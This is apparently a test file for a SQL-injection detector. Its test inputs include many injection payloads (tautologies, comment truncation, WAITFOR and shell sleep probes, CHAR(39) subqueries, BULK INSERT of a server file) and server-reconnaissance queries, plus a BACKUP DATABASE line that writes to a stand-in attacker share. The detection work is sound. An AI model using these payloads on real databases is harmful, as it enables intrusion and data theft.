import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { scanSql } from '../../src/index.js';
import { collapseQuoteRuns, normalizeSqlInput } from '../../src/detectors/sql/normalize.js';
import { findAnywhere } from '../../src/detectors/sql/rules/anywhere.js';
import { findEncodedSql } from '../../src/detectors/sql/rules/encoded-sql.js';
import { findErrorBased } from '../../src/detectors/sql/rules/error-based.js';
import { findFileAccess } from '../../src/detectors/sql/rules/file-access.js';
import type { RuleFinding } from '../../src/detectors/sql/rules/rule-finding.js';
import { findSystemCatalogReads } from '../../src/detectors/sql/rules/system-catalogs.js';
import { findTautologies } from '../../src/detectors/sql/rules/tautology.js';
import { findTimeBased } from '../../src/detectors/sql/rules/time-based.js';
import { tokenizeSql } from '../../src/detectors/sql/tokenizer.js';
import { expectCategory, expectClean } from './sql-expectations.js';

describe('scanSql: tautologies in odd quoting', () => {
  it('reads a connective glued between two numbers (1or1=1) as a condition', () => {
    expectCategory(['1or1=1', '2and2=2--', '1 or1=1'], 'boolean_blind');
    expectClean(['the 3in1 printer costs 1or2 dollars', 'x1or2y', 'flight BA2or3']);
  });

  it('reads payloads whose quotes were all doubled by the file they were copied from', () => {
    expectCategory([
      'hi"""") or (""""a""""=""""a"""',
      '"hi"") or (""a""=""a"',
      ' or ""a""=""a"',
      "hi'''') or (''''a''''=''''a'''",
    ], 'boolean_blind');
    expect(collapseQuoteRuns(normalizeSqlInput(' or ""a""=""a"'))?.text).toBe(' or "a"="a"');
  });

  it('does not collapse quotes in text that only sometimes doubles them', () => {
    // SQL escapes and empty strings next to ordinary strings, and quote decoration.
    expect(collapseQuoteRuns(normalizeSqlInput("x = '' || y == 'abc' || z == 'def'"))).toBeNull();
    expect(collapseQuoteRuns(normalizeSqlInput("MISTERGLAS.DK'*'''''''''''''''''''"))).toBeNull();
    expectClean(["MISTERGLAS.DK'*'''''''''''''''''''''''''''''''''", "SELECT * FROM users WHERE email = 'o''brien@example.com'", 'She said ""hello"" twice']);
  });

  it('reads primes and other apostrophe-like marks as quotes', () => {
    expectCategory(["'or'1=1′", "'or'1=1´", "'or'1=1‘", "admin‵ or ‵1‵=‵1"], 'boolean_blind');
  });

  it('reports a connective followed only by constants right after breaking out of a string', () => {
    expectCategory(["' or '' '", '" or "" "', "x' or 'x", "' or '", "'or'1=1'"], 'boolean_blind');
  });

  it('does not read a quoted word in a sentence, or mismatched quotes, as that condition', () => {
    // libinjection's own unit tests call the last three benign: the quotes cannot close.
    expectClean(["Type 'or' to continue", "Is the word 'or' a conjunction?", "Choose 'and' or 'or'", 'foo" OR "BAR"', `foo' OR "BAR`, '"foo" OR "BAR']);
    expectClean(['It is 12" or 14" wide', 'He said "yes" or "" maybe']);
  });

  it('reports an EXISTS condition appended after a quote or at the start of the input', () => {
    expectCategory(["' or (EXISTS)", ' or (EXISTS)', "') or (EXISTS)", '" or (EXISTS)', ' AND EXISTS(SELECT 1 FROM users)'], 'boolean_blind');
    expectClean(['Or exists as a word here.', 'It either works or exists only on paper.']);
  });
});

describe('scanSql: negated and range comparisons of constants', () => {
  it('reads NOT LIKE, BETWEEN and NOT BETWEEN between constants as a condition appended to a value', () => {
    expectCategory(['1 AND 1 NOT LIKE 0', '1 and 1 not between 0 and 1', '5 OR 2 BETWEEN 1 AND 3', "1 and 'a' not like 'b'"], 'boolean_blind');
  });

  it('does not report such comparisons when a column leads them', () => {
    expectClean(['age between 18 and 65', 'name not like \'a%\'', 'SELECT id FROM users WHERE age NOT BETWEEN 1 AND 5', '1 and age not like 2']);
  });
});

describe('scanSql: quote-break probes', () => {
  it('reports a subquery opened for the query it is pasted into to close', () => {
    expectCategory(["' (select top 1", ' (select top 1', "') (select top 1 name", ' (select top 1 password from users'], 'boolean_blind');
    expectClean(['(select all that apply', '(Select the best answer from the list', '(select one)', '(SELECT a FROM t) UNION (SELECT b FROM u)']);
  });

  it('reports the second half of a payload split across two form fields', () => {
    expectCategory(['password:*/=1--', '*/ or 1=1--', 'admin:*/=1#'], 'comment_truncation');
    expectClean(['/* comment */ x = 1 -- c', 'a */ b', '*/ then the rest of the sentence --- written out at length']);
  });

  it('reports a statement ended and the rest commented out, but not a bare comment', () => {
    expectCategory(['; --', ');--', ';#', "'; --"], 'comment_truncation');
    expectClean([' --', '-- just a comment', ';', 'x = 1; -- set x']);
  });

  it('reports sp_password in a comment even when the input is nothing but the comment', () => {
    expectCategory(['--sp_password', '#sp_password'], 'comment_truncation');
  });
});

describe('scanSql: T-SQL dynamic SQL and procedures', () => {
  it('reports a string variable declared and loaded with encoded or cut-off SQL', () => {
    expectCategory([
      'declare @s varchar(22) select @s =',
      'declare @q nvarchar (4000) select @q =',
      'declare @x varchar(8000) set @x =',
      'DECLARE @c varchar(50) SET @c = CHAR(83)+CHAR(69)',
    ], 'stacked_queries');
    expectClean(['DECLARE @count int; SELECT @count = COUNT(*) FROM orders;', "DECLARE @name nvarchar(100) = N'Ann'", "DECLARE @since date = '2024-01-01'; SELECT 1;"]);
  });

  it('reports a hex literal cut short in the middle of a statement keyword', () => {
    // 0x730065006c00650063 is UTF-16LE "selec".
    expectCategory(['declare @q nvarchar (200) 0x730065006c00650063 ...', 'SET @s = 0x730065006c006500'], 'stacked_queries');
    // The same bytes followed by more text are not cut short; random bytes do not spell SQL.
    expectClean(['SELECT 0x0123456789abcdef AS id', 'SELECT 0x6F9619FF8B86D011B42D00C04FC964FF FROM t']);
  });

  it('reports a quote built with CHAR(39) joined to a subquery', () => {
    expectCategory(['char(39)+(SELECT', "'+char(39)+(select top 1 name from sysobjects)+char(39)+'", 'chr(39)||(select user from dual)'], 'union_based');
    expectClean(["SELECT 'It' + CHAR(39) + 's' AS word"]);
  });

  it('reports EXEC of a bare xp / sp system-procedure prefix, and PRINT of a server variable', () => {
    expectCategory(['exec xp', 'exec sp', 'execute sp', 'PRINT @@variable', 'print @@servername'], 'dangerous_query');
    expectClean(["EXEC sp_help 'orders'", 'EXEC sp_who2', "PRINT 'done'", "print('hello')"]);
  });
});

describe('scanSql: time-based probes with typos and shell forms', () => {
  it('reports a misspelt WAITFOR before DELAY and an hh:mm:ss string', () => {
    expectCategory(["',NULL)%20waifor%20delay%20'0:0:20'%20/*", "'),NULL) waitfr delay '0:0:5' --"], 'time_based');
    expectClean(["Can you delay '10:30' to '11:00'?", "Please delay '0:0:20' the job"]);
  });

  it('reports a bare shell sleep probe, but not a question that mentions one', () => {
    expectCategory(["%20'sleep%2050'", '%20$(sleep%2050)', '`sleep 5`', '| sleep 5', ';sleep 5;'], 'time_based');
    expectClean(['sleep 5', 'How do I use $(sleep 5) in a bash loop so it waits?', 'I wake at 6 and sleep 8 hours']);
  });
});

describe('scanSql: file and server operations', () => {
  it('reports BACKUP DATABASE / LOG as a destructive statement', () => {
    expectCategory(["BACKUP database master to disks='\\\\<attackerip>\\<attackerip>\\backupdb.dat'", "BACKUP LOG master TO DISK = '\\\\evil\\x'"], 'dangerous_query');
  });

  it('reports BULK INSERT from a server file even when stray quotes hide it from the plain reading', () => {
    expectCategory([
      `create table myfile (line varchar(8000))" bulk insert foo from 'c:\\inetpub\\wwwroot\\auth.asp'" select * from myfile"--`,
    ], 'union_based');
    // A plain CREATE TABLE is not an attack on its own.
    expectClean(['create table myfile (input TEXT);']);
  });
});

/**
 * Reconnaissance: read-only queries that map the server (version, identity, configuration,
 * vendor system catalogs) are reported as `dangerous_query`, not as injections, so that a
 * policy for a read-only database tool can refuse or review them. The SQL-standard
 * `information_schema` and SQLite's `sqlite_master` (what tools use to list tables) stay clean,
 * as do server values used inside ordinary queries.
 */
describe('scanSql: reconnaissance of the server', () => {
  const RECONNAISSANCE = [
    'select @@version', 'select @@servernamee', 'SELECT @@hostname, @@datadir', 'SELECT version()', 'select version();\t',
    'select current_database();', 'select current_user;', 'select session_user;', "select current_setting('hba_file');",
    "select current_setting('data_directory')", "SELECT SERVERPROPERTY('ProductVersion')", 'SELECT DB_NAME(), SUSER_SNAME()',
    'select user from sysibm.sysdummy1;', 'select current server from sysibm.sysdummy1;', 'SELECT user FROM dual',
    'select name from sysibm.systables;', 'select name, tbname, coltype from sysibm.syscolumns;', 'SELECT schemaname FROM syscat.schemata;',
    'select * from master..sysserverse', 'select name from master..sysdatabases', "SELECT name FROM sysobjects WHERE xtype = 'U'",
    'SELECT name FROM sys.databases', 'SELECT banner FROM v$version', 'select owner, table_name from all_tables',
    "SELECT * FROM pg_stat_activity WHERE state = 'active'", 'SELECT name, setting FROM pg_settings', 'SELECT tablename FROM pg_tables',
    'select * from information_schema.processlist', ' select name from syscolumns where id = (sele ...',
  ];

  it('reports server identity, configuration and system-catalog reads as dangerous_query with a reconnaissance reason', () => {
    for (const q of RECONNAISSANCE) {
      const r = scanSql(q);
      expect({ q, category: r.category, reason: r.findings[0]?.reason }).toEqual({ q, category: 'dangerous_query', reason: expect.stringContaining('reconnaissance') });
    }
  });

  it('keeps ordinary reads, server values used as filters, information_schema and sqlite_master clean', () => {
    expectClean([
      'SELECT now()', 'SELECT current_date', 'SELECT count(*) FROM orders', 'SELECT @@ROWCOUNT', 'SELECT @@IDENTITY',
      'SELECT user, total FROM orders', 'SELECT * FROM users WHERE owner = current_user',
      "SELECT * FROM documents WHERE tenant_id = current_setting('app.tenant_id')::int",
      "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'",
      "SELECT name FROM sqlite_master WHERE type = 'table'", 'SELECT name FROM users WHERE id = 42',
      'Write me a query that pulls from sys.tables', 'What does SELECT @@ROWCOUNT return?',
    ]);
  });

  it('names an injection, not the reconnaissance, when a payload reads the server version', () => {
    expect(scanSql("1' UNION SELECT @@version--").category).toBe('union_based');
  });
});

describe('scanSql: code that looks like SQL', () => {
  it('does not take a minifier license banner for a MySQL versioned comment', () => {
    expectClean(['/*! jQuery v3.7.1 | (c) OpenJS Foundation */ (function(){ return 1; })();', '/*!\n * @license MIT\n */\nvar x = 1;']);
    expect(scanSql('1 /*!50000union*/ select 1,2').detected).toBe(true);
    expect(scanSql('1 /*!anything*/').detected).toBe(true);
  });

  it('does not read a JavaScript property delete as DELETE without WHERE', () => {
    expectClean(['if (opts.retry) { delete opts.retry; return opts; }', 'delete ret.config;\nreturn ret;']);
    expect(scanSql('DELETE users').category).toBe('dangerous_query');
  });
});

describe('findAnywhere', () => {
  const perRule = (text: string): RuleFinding[] => {
    const tokens = tokenizeSql(text).tokens;
    const out: RuleFinding[] = [];
    findTimeBased(tokens, out);
    findErrorBased(tokens, out);
    findFileAccess(tokens, out);
    findTautologies(tokens, out);
    findEncodedSql(tokens, out);
    findSystemCatalogReads(tokens, out);
    return out;
  };
  const key = (fs: readonly RuleFinding[]): string[] => fs.map((f) => `${f.category} ${f.start}-${f.end} ${f.confidence} ${f.reason}`).sort();

  it('reports in one pass exactly what the rules report one by one', () => {
    const pieces = [
      ' ', "'", '"', '(', ')', ',', ';', '=', '>', '--', '#', '1', '0', '0x73656c656374', '@@version', '@s', 'OR', 'AND', '||', 'SELECT', 'FROM',
      'SLEEP', 'WAITFOR', 'DELAY', "'0:0:5'", 'BENCHMARK', 'EXTRACTVALUE', 'CONVERT', 'INT', 'CAST', 'AS', 'LOAD_FILE', 'INTO', 'OUTFILE',
      'DECLARE', 'VARCHAR', 'CHAR', '39', '+', 'pg_shadow', 'sysibm', '.', 'systables', 'COUNT', '*', 'words', 'x',
    ];
    fc.assert(fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 30 }), (parts) => {
      const text = parts.join(' ');
      const out: RuleFinding[] = [];
      findAnywhere(tokenizeSql(text).tokens, out);
      expect(key(out)).toEqual(key(perRule(text)));
    }), { numRuns: 500 });
  });
});
